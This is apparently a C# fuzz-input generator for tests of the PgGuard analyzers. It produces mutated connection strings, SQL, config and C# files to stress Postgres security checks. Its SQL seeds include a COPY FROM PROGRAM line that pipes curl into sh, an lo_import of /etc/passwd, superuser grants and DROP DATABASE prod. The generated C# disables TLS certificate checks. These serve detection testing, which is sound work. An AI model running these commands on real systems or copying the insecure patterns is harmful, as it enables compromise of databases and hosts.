using System;
using System.Collections.Generic;
using System.Globalization;
using System.Linq;
using System.Text;

namespace PgGuard.Analyzers.Tests.Quality
{
    /// <summary>One compilation's worth of hostile inputs: C# files and additional files (config, SQL).</summary>
    public sealed class HostileBatch
    {
        public HostileBatch(string name)
        {
            Name = name;
        }

        /// <summary>Where the batch came from (seed and number, or the name of a fixed huge input), to reproduce it.</summary>
        public string Name { get; }

        public List<(string Path, string Text)> Sources { get; } = new List<(string Path, string Text)>();

        public List<(string Path, string Text)> AdditionalFiles { get; } = new List<(string Path, string Text)>();

        public int Count => Sources.Count + AdditionalFiles.Count;
    }

    /// <summary>
    /// Deterministic generators of hostile input for every analyzer: connection strings, SQL, appsettings JSON, XML
    /// config files and C# files, each random, mutated from a valid seed, truncated, nested, or full of junk. The same
    /// seed gives the same inputs, so a failure is reproduced from its seed. Shared by the bounded test
    /// (<c>HostileInputTests</c>) and the long fuzz run (<c>tools/fuzz</c>, which links this file).
    /// </summary>
    public sealed class HostileInputs
    {
        /// <summary>Valid (or deliberately provider-foreign) connection strings that mutations start from.</summary>
        public static readonly string[] ConnectionStringSeeds =
        {
            "Host=db.example.com;Port=5432;Database=app;Username=app;Password=secret;SSL Mode=VerifyFull;Maximum Pool Size=20",
            "Host=db1.example.com,db2.example.com:5433;Target Session Attributes=primary;SSL Mode=Require;Trust Server Certificate=true",
            "Server=10.0.0.5;User Id=postgres;Password='p;w''d';Pooling=false;Include Error Detail=true",
            "host=localhost;database=dev;username=dev;password=dev",
            "Host=/var/run/postgresql;Database=app;Username=app",
            "Host=[::1]:5432;SSL Mode=Disable;Log Parameters=true;Keepalive=30",
            "Host=34.120.5.9;Max Pool Size=500;Min Pool Size=600;Command Timeout=30;SSL Mode=Prefer",
            "Host=\"quoted;host\";Password=\"a\"\"b\";Application Name=x=y;Options=-c search_path=app",
            "Host=db.example.com;Maximum Pool Size=0;Minimum Pool Size=-1;Port=99999;Timeout=abc;SSL Mode=Sometimes",
            "Host = db.example.com ; ; Username = admin ; Password = ; Root Certificate = /etc/ssl/ca.pem ; SslMode = VerifyCA",
            "postgres://user:pass@db.example.com:5432/app?sslmode=require",
            "postgresql://db.example.com,db2.example.com/app?sslmode=disable&target_session_attrs=any",
            "host=db.example.com port=5432 dbname=app user=app password=secret sslmode=disable",
            "Data Source=sql.example.com;Initial Catalog=App;Encrypt=true;TrustServerCertificate=true",
            "Name=ConnectionStrings:Main",
        };

        /// <summary>SQL scripts in the style of POSTGRES.md's examples: every lexical form and every rule's statements.</summary>
        public static readonly string[] SqlSeeds =
        {
            "CREATE ROLE admin WITH SUPERUSER LOGIN PASSWORD 'x';\ncreate user app superuser;\nALTER USER \"App\" WITH \"superuser\";",
            "ALTER ROLE CURRENT_USER CREATEROLE;\nCREATE ROLE app LOGIN IN ROLE pg_read_server_files;\nALTER GROUP rds_superuser ADD USER app;",
            "CREATE ROLE app NOLOGIN;\nGRANT SELECT ON ALL TABLES IN SCHEMA public TO app_reader;\nREVOKE ALL ON SCHEMA public FROM PUBLIC;",
            "GRANT ALL ON SCHEMA public TO PUBLIC;\nGRANT EXECUTE ON FUNCTION pg_read_file(text) TO app;\nGRANT pg_write_server_files TO app WITH ADMIN OPTION;",
            "COPY logs FROM PROGRAM 'curl http://x | sh';\nCOPY t TO '/tmp/t.csv' WITH (FORMAT csv);\nSELECT lo_import('/etc/passwd');",
            "ALTER SYSTEM SET ssl = off;\nSELECT pg_reload_conf();\nSET lo_compat_privileges = on;\nSELECT set_config('role', 'postgres', false);",
            "SET ROLE postgres;\nSET SESSION AUTHORIZATION DEFAULT;\nRESET ROLE;\nSET ROLE tenant_x;",
            "CREATE FUNCTION check_password(uname TEXT, pass TEXT) RETURNS BOOLEAN AS $$\nBEGIN\n  RETURN pass = 'x'; -- ;\nEND;\n$$ LANGUAGE plpgsql\n    SECURITY DEFINER;",
            "CREATE OR REPLACE FUNCTION f() RETURNS void LANGUAGE sql SECURITY DEFINER SET search_path = admin, pg_temp BEGIN ATOMIC SELECT 1; SELECT 2; END;",
            "DO $body$\nBEGIN\n  EXECUTE 'CREATE ROLE x SUPERUSER PASSWORD ''y''';\n  EXECUTE format('ALTER ROLE %I PASSWORD %L', 'r', 'p');\nEND\n$body$;",
            "CREATE EXTENSION IF NOT EXISTS dblink;\nCREATE TRUSTED LANGUAGE plperlu;\nCREATE FUNCTION c_fn() RETURNS int AS 'lib', 'fn' LANGUAGE c;",
            "CREATE USER MAPPING FOR app SERVER remote OPTIONS (user 'app', password 'secret');\nALTER ROLE app PASSWORD NULL;\nALTER ROLE app ENCRYPTED PASSWORD 'md5abc';",
            "SELECT E'it\\'s', U&'d\\0061t\\+000061' UESCAPE '\\', B'1010', X'ff', N'n', $q$ ' \" $q$, \"quoted \"\" ident\";\n/* outer /* inner */ still comment */ SELECT 1; -- trailing",
            "SELECT 'abc'\n'def', $1, @name, :name, foo$$bar, $tag$ $$ nested $$ $tag$;\nCOMMENT ON ROLE x IS 'SUPERUSER';\n-- ALTER ROLE x SUPERUSER",
            "ALTER FUNCTION f() OWNER TO postgres;\nREASSIGN OWNED BY app TO postgres;\nDROP DATABASE prod;\nALTER ROLE app VALID UNTIL 'infinity';",
        };

        // Characters that break parsers: separators, quotes, escapes, braces, NUL, lone and paired surrogates, BOM, controls.
        private const string HostileChars = "=;'\"\\ \t\r\n{}[]():,./@$-*#&<>!?%+\0\uD800\uDC00\uFEFF\u00e9\u0085\u2028\u0001\u007F";

        private static readonly string[] ConnectionStringTokens =
        {
            "'", "\"", ";", "=", ";;", "==", "''", "\"\"", "Password=", "SSL Mode=", "Host=", "Username=postgres;",
            "Trust Server Certificate=true;", "Pooling=false;", "Max Pool Size=", "postgres://", "@", ":", ",",
        };

        private static readonly string[] SqlTokens =
        {
            "'", "''", "E'", "U&'", "\"", "$$", "$tag$", "$1", "/*", "*/", "--", "\\", ";", "\n", "(", ")", " SUPERUSER ",
            " PASSWORD '", " SECURITY DEFINER ", " BEGIN ATOMIC ", " END ", "DO $$", " TO PUBLIC", " LANGUAGE c ", "\u0000",
        };

        private static readonly string[] SqlWords =
        {
            "CREATE", "ALTER", "ROLE", "USER", "GROUP", "GRANT", "REVOKE", "TO", "FROM", "PUBLIC", "SUPERUSER", "LOGIN", "PASSWORD",
            "SET", "ROLE", "SESSION", "AUTHORIZATION", "COPY", "PROGRAM", "SYSTEM", "FUNCTION", "SECURITY", "DEFINER", "AS",
            "LANGUAGE", "EXTENSION", "DO", "EXECUTE", "BEGIN", "ATOMIC", "END", "WITH", "IN", "MAPPING", "OPTIONS", "(", ")",
            ",", ";", "'x'", "$$", "$t$", "\"id\"", "E'\\''", "--c\n", "/*", "*/", "postgres", "app", "search_path", "=", "pg_temp",
        };

        private static readonly string[] CSharpTokens =
        {
            "\"", "'", "{", "}", "(", ")", ";", ",", "$\"", "@\"", "\"\"\"", "$$\"\"\"", "/*", "//", "\n#if X\n", "\n#endregion\n",
            "\\", "u8", "+", "=", "new", "=>", "?", ":", "[", "]", "<", ">", "\\u", "{{", "}}",
        };

        private static readonly string[] ConfigPaths =
        {
            "appsettings.json", "appsettings.Development.json", "appsettings.Production.json", "appsettings.Local.json",
            "web.config", "app.config", "Web.Release.config", "App.Debug.config",
        };

        private readonly Random _random;

        public HostileInputs(int seed)
        {
            _random = new Random(seed);
        }

        // ---------------------------------------------------------------- connection strings

        /// <summary>A random string, or a valid seed with one to four mutations.</summary>
        public string ConnectionString()
        {
            switch (_random.Next(6))
            {
                case 0:
                    return RandomText(HostileChars + "HostPasswrdSLMUe0123456789", 0, 80);
                case 1:
                    return Pick(ConnectionStringSeeds);
                default:
                    return Mutate(Pick(ConnectionStringSeeds), ConnectionStringTokens, 1 + _random.Next(4));
            }
        }

        // ---------------------------------------------------------------- SQL

        /// <summary>A seed script mutated (quotes, comments, dollar quotes opened and never closed), or keyword soup.</summary>
        public string Sql()
        {
            switch (_random.Next(6))
            {
                case 0:
                    var words = new StringBuilder();
                    var count = _random.Next(1, 60);
                    for (var i = 0; i < count; i++)
                    {
                        words.Append(Pick(SqlWords)).Append(_random.Next(8) == 0 ? "" : " ");
                    }

                    return words.ToString();
                case 1:
                    return Pick(SqlSeeds);
                default:
                    var script = Pick(SqlSeeds);
                    if (_random.Next(3) == 0)
                    {
                        script += "\n" + Pick(SqlSeeds);
                    }

                    return Mutate(script, SqlTokens, 1 + _random.Next(4));
            }
        }

        // ---------------------------------------------------------------- config files

        /// <summary>An appsettings*.json or *.config file at a unique path under <paramref name="folder"/>.</summary>
        public (string Path, string Text) ConfigFile(string folder)
        {
            var name = Pick(ConfigPaths);
            var text = name.EndsWith(".json", StringComparison.Ordinal) ? Json() : Xml();
            return (folder + "/" + name, Disturb(text, name.EndsWith(".json", StringComparison.Ordinal) ? "{}[]\":,\\/" : "<>/=\"'&;!-[]?"));
        }

        /// <summary>An appsettings file holding connection strings (escaped every way JSON allows) among other values.</summary>
        public string Json()
        {
            var sb = new StringBuilder();
            sb.Append(_random.Next(4) == 0 ? "// comment\n{" : "{");
            sb.Append("\n  \"ConnectionStrings\": {");
            var count = _random.Next(0, 5);
            for (var i = 0; i < count; i++)
            {
                sb.Append(i == 0 ? "" : ",").Append("\n    \"Db").Append(i).Append("\": \"").Append(JsonEscape(ConnectionString())).Append('"');
                if (_random.Next(4) == 0)
                {
                    sb.Append(",\n    \"Db").Append(i).Append("_ProviderName\": \"").Append(_random.Next(2) == 0 ? "Npgsql" : "System.Data.SqlClient").Append('"');
                }
            }

            sb.Append(_random.Next(3) == 0 ? ",\n  }," : "\n  },");
            sb.Append("\n  \"Logging\": { \"LogLevel\": { \"Default\": \"Information\" } },");
            sb.Append("\n  \"Other\": [ \"").Append(JsonEscape(ConnectionString())).Append("\", 1, true, null, -1.5e3, { \"Inner\": \"")
              .Append(JsonEscape(ConnectionString())).Append("\" } ],");
            sb.Append("\n  \"Settings\": { \"Database\": \"").Append(JsonEscape(ConnectionString())).Append("\" } /* block */\n}\n");
            return sb.ToString();
        }

        /// <summary>An app.config / web.config with connection strings and app settings, entity-encoded every way.</summary>
        public string Xml()
        {
            var sb = new StringBuilder();
            if (_random.Next(2) == 0)
            {
                sb.Append("<?xml version=\"1.0\" encoding=\"utf-8\"?>\n");
            }

            if (_random.Next(6) == 0)
            {
                sb.Append("<!DOCTYPE configuration [ <!ENTITY e \"Host=x\"> ]>\n");
            }

            sb.Append("<configuration>\n  <!-- <add name=\"C\" connectionString=\"Host=commented\"/> -->\n  <connectionStrings>\n");
            if (_random.Next(5) == 0)
            {
                sb.Append("    <clear />\n");
            }

            var count = _random.Next(0, 5);
            for (var i = 0; i < count; i++)
            {
                var quote = _random.Next(4) == 0 ? '\'' : '"';
                sb.Append("    <add name=").Append(quote).Append("Db").Append(i).Append(quote)
                  .Append(" connectionString=").Append(quote).Append(XmlEscape(ConnectionString(), quote)).Append(quote);
                switch (_random.Next(4))
                {
                    case 0:
                        sb.Append(" providerName=\"Npgsql\"");
                        break;
                    case 1:
                        sb.Append(" providerName=\"System.Data.SqlClient\"");
                        break;
                }

                sb.Append(_random.Next(3) == 0 ? "></add>\n" : " />\n");
            }

            sb.Append("  </connectionStrings>\n  <![CDATA[ <add name=\"X\" connectionString=\"Host=cdata\"/> ]]>\n  <appSettings>\n");
            sb.Append("    <add key=\"Db\" value=\"").Append(XmlEscape(ConnectionString(), '"')).Append("\" /><?pi data?>\n");
            sb.Append("    <remove key=\"None\" />\n  </appSettings>\n</configuration>\n");
            return sb.ToString();
        }

        /// <summary>
        /// One of the file-level disturbances: none, a BOM, CRLF line ends, truncation, character mutations, deep nesting,
        /// binary junk, or lone surrogates. <paramref name="syntax"/> holds the characters worth inserting.
        /// </summary>
        private string Disturb(string text, string syntax)
        {
            switch (_random.Next(10))
            {
                case 0:
                    return "\uFEFF" + text;
                case 1:
                    return text.Replace("\n", "\r\n");
                case 2:
                    return text.Substring(0, _random.Next(text.Length + 1));
                case 3:
                case 4:
                    return Mutate(text, syntax.Select(c => c.ToString()).ToArray(), 1 + _random.Next(6));
                case 5:
                    var depth = _random.Next(1, 2000);
                    return text.StartsWith("<", StringComparison.Ordinal)
                        ? Repeat("<a>", depth) + text + Repeat("</a>", depth)
                        : "{\"A\":" + Repeat("[", depth) + text + Repeat("]", depth) + "}";
                case 6:
                    return RandomJunk(_random.Next(0, 4000));
                case 7:
                    // Lone surrogates, raw and escaped, where decoders might pair them.
                    var at = _random.Next(text.Length + 1);
                    return text.Substring(0, at) + Pick(new[] { "\uD800", "\uDC00", "\\ud800", "&#xD800;", "\uDBFF\\udfff", "\\uDC00\\uD800" }) + text.Substring(at);
                default:
                    return text;
            }
        }

        // ---------------------------------------------------------------- C#

        /// <summary>
        /// A C# file (class <c>C{index}</c>) that hands hostile connection strings and SQL to every kind of sink through
        /// every kind of literal, sometimes with the code itself broken: unterminated literals, missing tokens, deletions.
        /// </summary>
        public string CSharpFile(int index)
        {
            var members = new StringBuilder();
            var body = new StringBuilder();
            var statements = _random.Next(1, 8);
            for (var i = 0; i < statements; i++)
            {
                AppendStatement(body, members, index, i);
            }

            var file = "using System;\nusing System.Data.Common;\nusing Npgsql;\nusing Dapper;\nusing Microsoft.Data.SqlClient;\n" +
                       "using Microsoft.EntityFrameworkCore;\nusing Microsoft.EntityFrameworkCore.Migrations;\n\nnamespace Hostile\n{\n" +
                       "    public static class K" + index + "\n    {\n" + members + "    }\n\n" +
                       "    public class C" + index + "\n    {\n" +
                       "        public void M(string host, NpgsqlConnection connection, NpgsqlDataSource dataSource, DbContext db, " +
                       "MigrationBuilder migrationBuilder, DbContextOptionsBuilder optionsBuilder)\n        {\n" + body + "        }\n    }\n}\n";
            return _random.Next(2) == 0 ? file : Mutate(file, CSharpTokens, 1 + _random.Next(5));
        }

        private void AppendStatement(StringBuilder body, StringBuilder members, int index, int i)
        {
            var owner = "K" + index.ToString(CultureInfo.InvariantCulture);
            var v = "v" + i;
            var cs = CSharpString(ConnectionString(), owner, members, i);
            var sql = CSharpString(Sql(), owner, members, i + 100);
            switch (_random.Next(19))
            {
                case 0:
                    body.Append("            using var ").Append(v).Append(" = new NpgsqlConnection(").Append(cs).Append(");\n");
                    break;
                case 1:
                    body.Append("            using var ").Append(v).Append(" = NpgsqlDataSource.Create(").Append(cs).Append(");\n");
                    break;
                case 2:
                    body.Append("            var ").Append(v).Append(" = new NpgsqlDataSourceBuilder(").Append(cs).Append(").EnableParameterLogging().Build();\n");
                    break;
                case 3:
                    body.Append("            var ").Append(v).Append(" = new NpgsqlConnectionStringBuilder(").Append(cs).Append(")\n            {\n")
                        .Append("                Host = ").Append(CSharpString(ConnectionString(), owner, members, i + 200)).Append(",\n")
                        .Append("                Password = ").Append(CSharpString(ConnectionString(), owner, members, i + 300)).Append(",\n")
                        .Append("                SslMode = SslMode.").Append(Pick(new[] { "Disable", "Allow", "Prefer", "Require", "VerifyFull" })).Append(",\n")
                        .Append("                MaxPoolSize = ").Append(_random.Next(-5, 2000)).Append(",\n            };\n")
                        .Append("            ").Append(v).Append("[").Append(CSharpString(Pick(new[] { "Password", "SSL Mode", "Pooling", "Trust Server Certificate", "x" }), owner, members, i + 400))
                        .Append("] = ").Append(CSharpString(ConnectionString(), owner, members, i + 500)).Append(";\n")
                        .Append("            ").Append(v).Append(".TrustServerCertificate = true;\n");
                    break;
                case 4:
                    body.Append("            connection.ConnectionString = ").Append(cs).Append(";\n");
                    break;
                case 5:
                    body.Append("            optionsBuilder.UseNpgsql(").Append(cs).Append(");\n");
                    break;
                case 6:
                    body.Append("            var ").Append(v).Append(" = ").Append(cs).Append(";\n");
                    break;
                case 7:
                    body.Append("            using var ").Append(v).Append(" = new SqlConnection(").Append(cs).Append(");\n");
                    break;
                case 8:
                    body.Append("            using var ").Append(v).Append(" = new NpgsqlCommand(").Append(sql).Append(", connection);\n");
                    break;
                case 9:
                    body.Append("            using var ").Append(v).Append(" = dataSource.CreateCommand(").Append(sql).Append(");\n")
                        .Append("            ").Append(v).Append(".CommandText = ").Append(CSharpString(Sql(), owner, members, i + 600)).Append(";\n");
                    break;
                case 10:
                    body.Append("            connection.Execute(").Append(sql).Append(");\n");
                    break;
                case 11:
                    body.Append("            db.Database.ExecuteSqlRaw(").Append(sql).Append(");\n");
                    break;
                case 12:
                    body.Append("            migrationBuilder.Sql(").Append(sql).Append(");\n");
                    break;
                case 13:
                    body.Append("            var ").Append(v).Append(" = new NpgsqlBatchCommand(").Append(sql).Append(");\n");
                    break;
                case 14:
                    body.Append("            connection.Query<int>(").Append(sql).Append(");\n");
                    break;
                case 15:
                    body.Append("            connection.UserCertificateValidationCallback = ")
                        .Append(Pick(new[] { "(s, c, ch, e) => true", "(_, _, _, _) => true", "delegate { return true; }", "(s, c, ch, e) => e == System.Net.Security.SslPolicyErrors.None" }))
                        .Append(";\n");
                    break;
                case 16:
                    body.Append("            var ").Append(v).Append(" = new NpgsqlSlimDataSourceBuilder(").Append(cs).Append(");\n")
                        .Append("            using var ").Append(v).Append("s = ").Append(v).Append(_random.Next(2) == 0 ? ".EnableTransportSecurity()" : "").Append(".Build();\n");
                    break;
                case 17:
                    body.Append("            var ").Append(v).Append(" = new NpgsqlDataSourceBuilder(").Append(cs).Append(");\n")
                        .Append("            ").Append(v).Append(".UseUserCertificateValidationCallback((s, c, ch, e) => true);\n")
                        .Append("            using var ").Append(v).Append("s = ").Append(v).Append(".Build();\n");
                    break;
                default:
                    body.Append("            var ").Append(v).Append(" = new NpgsqlDataSourceBuilder(").Append(cs).Append(");\n")
                        .Append("            ").Append(v).Append(".ConnectionStringBuilder.Password = ").Append(CSharpString(ConnectionString(), owner, members, i + 700)).Append(";\n")
                        .Append("            ").Append(v).Append(".UseSslClientAuthenticationOptionsCallback(o => o.RemoteCertificateValidationCallback = (a, b, c, d) => true);\n");
                    break;
            }
        }

        /// <summary>
        /// C# source for an expression with the value <paramref name="value"/> (holes aside): any literal kind, an
        /// interpolation with holes, a concatenation, or a const of class <paramref name="owner"/> (added to <paramref name="members"/>).
        /// </summary>
        public string CSharpString(string value, string owner, StringBuilder members, int id)
        {
            switch (_random.Next(9))
            {
                case 0:
                    return Verbatim(value);
                case 1:
                    return Raw(value) ?? Regular(value);
                case 2:
                    return Interpolated(value, verbatim: false);
                case 3:
                    return Interpolated(value, verbatim: true);
                case 4:
                    return RawInterpolated(value) ?? Interpolated(value, verbatim: false);
                case 5:
                    // A concatenation of literals and unknown values.
                    var parts = Split(value);
                    return parts.Count == 0 ? "\"\"" : string.Join(" + ", parts.Select(p => _random.Next(4) == 0 ? Regular(p) + " + host" : Regular(p)));
                case 6:
                    // A const of another class (another file in the batch sees it too).
                    var name = "S" + id.ToString(CultureInfo.InvariantCulture) + "_" + _random.Next(1_000_000).ToString(CultureInfo.InvariantCulture);
                    members.Append("        public const string ").Append(name).Append(" = ").Append(Regular(value)).Append(";\n");
                    return owner + "." + name;
                default:
                    return Regular(value);
            }
        }

        public static string Regular(string value)
        {
            var sb = new StringBuilder("\"");
            foreach (var c in value)
            {
                switch (c)
                {
                    case '"':
                        sb.Append("\\\"");
                        break;
                    case '\\':
                        sb.Append("\\\\");
                        break;
                    default:
                        if (c < ' ' || char.IsSurrogate(c) || c == '\u0085' || c == '\u2028' || c == '\u2029' || c == '\u007F')
                        {
                            sb.Append("\\u").Append(((int)c).ToString("x4", CultureInfo.InvariantCulture));
                        }
                        else
                        {
                            sb.Append(c);
                        }

                        break;
                }
            }

            return sb.Append('"').ToString();
        }

        private static string Verbatim(string value) => "@\"" + value.Replace("\"", "\"\"") + "\"";

        /// <summary>A single-line raw literal, or null when the value cannot be one.</summary>
        private static string? Raw(string value)
        {
            if (value.Length == 0 || value.Contains("\"\"\"") || value.IndexOfAny(new[] { '\r', '\n', '\u0085', '\u2028', '\u2029' }) >= 0 ||
                value[0] == '"' || value[value.Length - 1] == '"')
            {
                return null;
            }

            return "\"\"\"" + value + "\"\"\"";
        }

        private string Interpolated(string value, bool verbatim)
        {
            var sb = new StringBuilder(verbatim ? "$@\"" : "$\"");
            foreach (var part in Split(value))
            {
                var literal = verbatim ? Verbatim(part) : Regular(part);
                sb.Append(literal.Substring(verbatim ? 2 : 1, literal.Length - (verbatim ? 3 : 2)).Replace("{", "{{").Replace("}", "}}"));
                if (_random.Next(3) == 0)
                {
                    sb.Append(Pick(new[] { "{host}", "{host,10}", "{host:x}", "{42}", "{(host ?? \"\")}" }));
                }
            }

            return sb.Append('"').ToString();
        }

        private string? RawInterpolated(string value)
        {
            var parts = Split(value);
            if (parts.Any(p => Raw(p + "x") is null))
            {
                return null;
            }

            // Two dollars: single braces are content, {{x}} is a hole.
            var content = string.Join("{{host}}", parts);
            return content.Contains("{{{") || content.Contains("}}}") || Raw(content) is null ? null : "$$" + Raw(content);
        }

        private List<string> Split(string value)
        {
            var parts = new List<string>();
            var start = 0;
            while (start < value.Length)
            {
                var length = Math.Min(value.Length - start, 1 + _random.Next(24));

                // Keep surrogate pairs together: a literal split between them would not be the same text.
                if (start + length < value.Length && char.IsHighSurrogate(value[start + length - 1]) && char.IsLowSurrogate(value[start + length]))
                {
                    length++;
                }

                parts.Add(value.Substring(start, length));
                start += length;
            }

            return parts;
        }

        // ---------------------------------------------------------------- batches

        /// <summary>
        /// A batch of <paramref name="sources"/> C# files and <paramref name="files"/> additional files (config and SQL, at
        /// unique paths) for one compilation.
        /// </summary>
        public HostileBatch Batch(string name, int sources, int files)
        {
            var batch = new HostileBatch(name);
            for (var i = 0; i < sources; i++)
            {
                batch.Sources.Add(("Hostile" + i + ".cs", CSharpFile(i)));
            }

            for (var i = 0; i < files; i++)
            {
                var folder = "f" + i.ToString(CultureInfo.InvariantCulture);
                batch.AdditionalFiles.Add(_random.Next(3) == 0 ? (folder + "/migration.sql", Disturb(Sql(), "'\"$;/*-\\")) : ConfigFile(folder));
            }

            return batch;
        }

        /// <summary>
        /// The fixed huge and deep inputs, one batch each: 10 MB files, 100,000 levels of nesting, megabyte literals and scripts
        /// that never close their quote, comment or dollar quote.
        /// </summary>
        public static IEnumerable<HostileBatch> Huge()
        {
            const int TenMegabytes = 10 * 1024 * 1024;
            const int OneMegabyte = 1024 * 1024;

            // One 1 MB connection string (settings repeated) in a production appsettings file.
            var longValue = Repeat("Host=db.example.com;SSL Mode=Disable;Password=p\\u0041;", OneMegabyte / 54);
            yield return Files("1 MB connection string in appsettings.json", ("appsettings.json", "{\"ConnectionStrings\":{\"Main\":\"" + longValue + "\"}}"));

            // 10 MB of small values, one in 256 a connection string with findings (every finding costs a diagnostic).
            var many = new StringBuilder("{\"Settings\":{");
            for (var i = 0; many.Length < TenMegabytes; i++)
            {
                many.Append("\"K").Append(i).Append("\":\"").Append(i % 256 == 0 ? "Host=h" + (i % 100) + ".example.com;Password=x" : "plain value " + i).Append("\",// c\n");
            }

            yield return Files("10 MB of values in appsettings.json", ("appsettings.json", many.Append("}}").ToString()));

            var random = new Random(7);
            var bytes = new byte[TenMegabytes];
            random.NextBytes(bytes);
            yield return Files(
                "10 MB of binary junk as config and SQL",
                ("appsettings.json", Encoding.UTF8.GetString(bytes)),
                ("web.config", "<configuration><connectionStrings>" + Encoding.Latin1.GetString(bytes)),
                ("junk.sql", Encoding.UTF8.GetString(bytes, 0, OneMegabyte)));

            var xml = new StringBuilder("\uFEFF<configuration><appSettings>");
            for (var i = 0; xml.Length < TenMegabytes; i++)
            {
                xml.Append("<add key=\"K").Append(i).Append("\" value=\"").Append(i % 256 == 0 ? "Host=h.example.com;Password=a&amp;b&#x41;;SSL Mode=Disable" : "plain &amp; simple")
                   .Append("\"/><!-- c -->\r\n");
            }

            yield return Files("10 MB web.config", ("web.config", xml.Append("</appSettings></configuration>").ToString()));

            const int Depth = 100_000;
            yield return Files(
                "100,000 levels of nesting",
                ("appsettings.json", "{\"a\":" + Repeat("[", Depth) + Repeat("]", Depth) + "}"),
                ("appsettings.Production.json", "{" + Repeat("\"a\":{", Depth)),
                ("web.config", Repeat("<a>", Depth) + "<connectionStrings><add name=\"A\" connectionString=\"Host=deep.example.com\"/></connectionStrings>" + Repeat("</a>", Depth)),
                ("nested.sql", Repeat("/*", Depth) + " CREATE ROLE x SUPERUSER; " + Repeat("*/", Depth - 1)),
                ("parens.sql", "SELECT " + Repeat("(", Depth) + "1" + Repeat(")", Depth) + ";"));

            yield return Files(
                "megabyte SQL scripts",
                ("many.sql", Repeat("SELECT 'a;b' FROM t; /* ; */ UPDATE t SET c = $$;$$; -- ;\n", OneMegabyte / 60) + "CREATE ROLE r LOGIN PASSWORD 'p';"),
                ("quote.sql", "SELECT '" + new string('x', OneMegabyte)),
                ("dollar.sql", "DO $tag$ " + Repeat("EXECUTE 'SELECT 1'; ", OneMegabyte / 20)),
                ("comment.sql", "CREATE ROLE a; /* " + new string('-', OneMegabyte)),
                ("semicolons.sql", new string(';', OneMegabyte)),
                ("estring.sql", "SELECT E'" + Repeat("\\'", OneMegabyte / 2)));

            var big = new HostileBatch("megabyte C# literals");
            big.Sources.Add(("Big.cs",
                "using Npgsql;\nclass Big\n{\n    void M(NpgsqlConnection c)\n    {\n" +
                "        using var a = new NpgsqlConnection(\"" + Repeat("Host=db.example.com;SSL Mode=Disable;", OneMegabyte / 38) + "\");\n" +
                "        using var b = new NpgsqlCommand(@\"" + Repeat("SELECT 'a;b' FROM t; ", OneMegabyte / 21) + "CREATE ROLE r SUPERUSER;\", c);\n" +
                "        var s = \"" + Repeat("a=b;", OneMegabyte / 4) + "\" + " + string.Join(" + ", Enumerable.Repeat("c.Database", 2000)) + ";\n" +
                "        using var d = new NpgsqlConnection(\"Host=db.example.com;Password='" + new string('x', OneMegabyte) + "\n    }\n}\n"));
            yield return big;
        }

        private static HostileBatch Files(string name, params (string Path, string Text)[] files)
        {
            var batch = new HostileBatch(name);
            batch.AdditionalFiles.AddRange(files);

            // The config analyzer runs only in projects that use Npgsql.
            batch.Sources.Add(("Uses.cs", "class Uses { Npgsql.NpgsqlConnection? C; }"));
            return batch;
        }

        // ---------------------------------------------------------------- primitives

        /// <summary>Applies <paramref name="count"/> random edits: flip, insert (a char or a token), delete a range, duplicate, truncate.</summary>
        public string Mutate(string text, string[] tokens, int count)
        {
            var sb = new StringBuilder(text);
            for (var n = 0; n < count; n++)
            {
                var at = _random.Next(sb.Length + 1);
                switch (_random.Next(6))
                {
                    case 0 when at < sb.Length:
                        sb[at] = HostileChars[_random.Next(HostileChars.Length)];
                        break;
                    case 1:
                        sb.Insert(at, Pick(tokens));
                        break;
                    case 2:
                        sb.Insert(at, HostileChars[_random.Next(HostileChars.Length)]);
                        break;
                    case 3 when at < sb.Length:
                        sb.Remove(at, Math.Min(sb.Length - at, 1 + _random.Next(_random.Next(2) == 0 ? 3 : 40)));
                        break;
                    case 4 when at < sb.Length:
                        var length = Math.Min(sb.Length - at, 1 + _random.Next(30));
                        sb.Insert(at, sb.ToString(at, length));
                        break;
                    case 5 when _random.Next(3) == 0:
                        sb.Length = at;
                        break;
                    default:
                        sb.Insert(at, Pick(tokens));
                        break;
                }
            }

            return sb.ToString();
        }

        private string RandomText(string alphabet, int minLength, int maxLength)
        {
            var chars = new char[_random.Next(minLength, maxLength + 1)];
            for (var i = 0; i < chars.Length; i++)
            {
                chars[i] = alphabet[_random.Next(alphabet.Length)];
            }

            return new string(chars);
        }

        /// <summary>Any UTF-16 code units at all, surrogates and NUL included.</summary>
        private string RandomJunk(int length)
        {
            var chars = new char[length];
            for (var i = 0; i < length; i++)
            {
                chars[i] = _random.Next(3) == 0 ? HostileChars[_random.Next(HostileChars.Length)] : (char)_random.Next(0, 0x10000);
            }

            return new string(chars);
        }

        private string JsonEscape(string value)
        {
            var sb = new StringBuilder();
            foreach (var c in value)
            {
                if (c == '"' || c == '\\')
                {
                    sb.Append('\\').Append(c);
                }
                else if (c < ' ' || char.IsSurrogate(c) || _random.Next(20) == 0)
                {
                    // Escaped control characters and surrogates (lone ones included), and now and then any other character.
                    sb.Append("\\u").Append(((int)c).ToString(_random.Next(2) == 0 ? "x4" : "X4", CultureInfo.InvariantCulture));
                }
                else
                {
                    sb.Append(c);
                }
            }

            return sb.ToString();
        }

        private string XmlEscape(string value, char quote)
        {
            var sb = new StringBuilder();
            foreach (var c in value)
            {
                switch (c)
                {
                    case '&':
                        sb.Append("&amp;");
                        break;
                    case '<':
                        sb.Append("&lt;");
                        break;
                    case '"' when quote == '"':
                        sb.Append("&quot;");
                        break;
                    case '\'' when quote == '\'':
                        sb.Append("&apos;");
                        break;
                    default:
                        if (c < ' ' || char.IsSurrogate(c) || _random.Next(20) == 0)
                        {
                            sb.Append(_random.Next(2) == 0 ? "&#x" + ((int)c).ToString("X", CultureInfo.InvariantCulture) + ";" : "&#" + (int)c + ";");
                        }
                        else
                        {
                            sb.Append(c);
                        }

                        break;
                }
            }

            return sb.ToString();
        }

        private T Pick<T>(T[] items) => items[_random.Next(items.Length)];

        private static string Repeat(string text, int count) => new StringBuilder(text.Length * count).Insert(0, text, count).ToString();
    }
}
